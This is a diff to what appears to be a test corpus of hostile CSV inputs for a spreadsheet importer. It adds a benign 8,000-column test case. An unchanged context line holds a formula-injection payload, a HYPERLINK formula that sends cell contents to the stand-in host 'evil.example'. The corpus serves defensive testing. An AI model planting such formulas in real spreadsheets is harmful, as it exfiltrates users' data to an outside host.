@@ -94,6 +94,7 @@ export const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1&B1,"Click f
 export const MIB = 1024 * 1024;
 export const MANY_COLUMNS = 20_000;
 export const MANY_ROWS = 1_100_000;
+export const WIDE_COLUMNS = 8_000;
 
 /** The OWASP payloads in one column; rotated through by the flood case. */
 const OWASP_PAYLOADS = [
@@ -370,6 +371,25 @@ export const hostileCorpus: readonly HostileCase[] = [
         [2, 2, "z"],
       ],
       warnings: [/19,997 empty columns/],
+    },
+  },
+  {
+    name: "alternating-columns-8000",
+    what: "8,000 columns alternating text and numbers, 2 rows (within Excel's limits)",
+    ...generated("alternating-columns-8000.csv", () => {
+      const row = (r: number): string => Array.from({ length: WIDE_COLUMNS }, (_, i) => (i % 2 ? String(r * i) : `t${r}-${i}`)).join(",");
+      return `${Array.from({ length: WIDE_COLUMNS }, (_, i) => `c${i + 1}`).join(",")}\n${row(1)}\n${row(2)}\n`;
+    }),
+    expected: {
+      outcome: "imported",
+      encoding: "utf-8",
+      headers: Array.from({ length: WIDE_COLUMNS }, (_, i) => `c${i + 1}`),
+      rows: 2,
+      cells: [
+        [1, 0, "t1-0"],
+        [2, 7_999, 2 * 7_999],
+        [2, 7_998, "t2-7998"],
+      ],
     },
   },
   {
